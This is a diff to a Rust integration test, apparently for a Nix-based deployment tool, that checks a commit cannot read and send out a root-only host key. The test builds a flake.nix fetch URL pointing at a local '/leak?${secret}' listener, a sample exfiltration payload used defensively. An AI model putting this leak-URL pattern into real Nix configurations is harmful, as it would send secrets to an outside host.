@@ -2,7 +2,7 @@
 //! gate and whatever the commit says.
 
 use std::io::{BufRead as _, BufReader};
-use std::net::TcpListener;
+use std::net::{SocketAddr, TcpListener};
 use std::sync::{Arc, Mutex};
 
 use crate::support::{Cluster, EVALUATOR, Host, on_each};
@@ -10,9 +10,10 @@ use crate::support::{Cluster, EVALUATOR, Host, on_each};
 /// What only root can read, as a host key is.
 const SECRET: &str = "THE-HOST-KEY-OF-JOKER-41c9";
 
-/// Listens at the forge's address: the first lines of what was asked.
-fn ears(cluster: &Cluster, port: u16) -> Arc<Mutex<Vec<String>>> {
-    let listener = TcpListener::bind(cluster.forge_address(port)).unwrap();
+/// Listens beside the forge: where, and the first lines of what was asked.
+fn ears(cluster: &Cluster) -> (SocketAddr, Arc<Mutex<Vec<String>>>) {
+    let listener = TcpListener::bind(cluster.forge_address(0)).unwrap();
+    let address = listener.local_addr().unwrap();
     let heard = Arc::<Mutex<Vec<String>>>::default();
     let all = heard.clone();
     std::thread::spawn(move || {
@@ -22,14 +23,14 @@ fn ears(cluster: &Cluster, port: u16) -> Arc<Mutex<Vec<String>>> {
             all.lock().unwrap().push(line);
         }
     });
-    heard
+    (address, heard)
 }
 
 #[test]
 fn a_commit_reads_and_sends_nothing_that_only_root_can_read() {
     on_each(|cluster| {
         cluster.forge();
-        let heard = ears(cluster, 9999);
+        let (address, heard) = ears(cluster);
         let one = Host::new("joker", "one").agent(&cluster.agent_config(""));
         let joker = cluster.installed(&one);
         joker.write("/etc/secret/key", SECRET.as_bytes());
@@ -48,7 +49,7 @@ fn a_commit_reads_and_sends_nothing_that_only_root_can_read() {
 
         let tree = cluster.tree();
         let flake = std::fs::read_to_string(tree.dir().join("flake.nix")).unwrap();
-        let url = format!("http://{}/leak?${{secret}}", cluster.forge_address(9999));
+        let url = format!("http://{address}/leak?${{secret}}");
         let sha256 = "0".repeat(64);
         tree.write(
             "flake.nix",
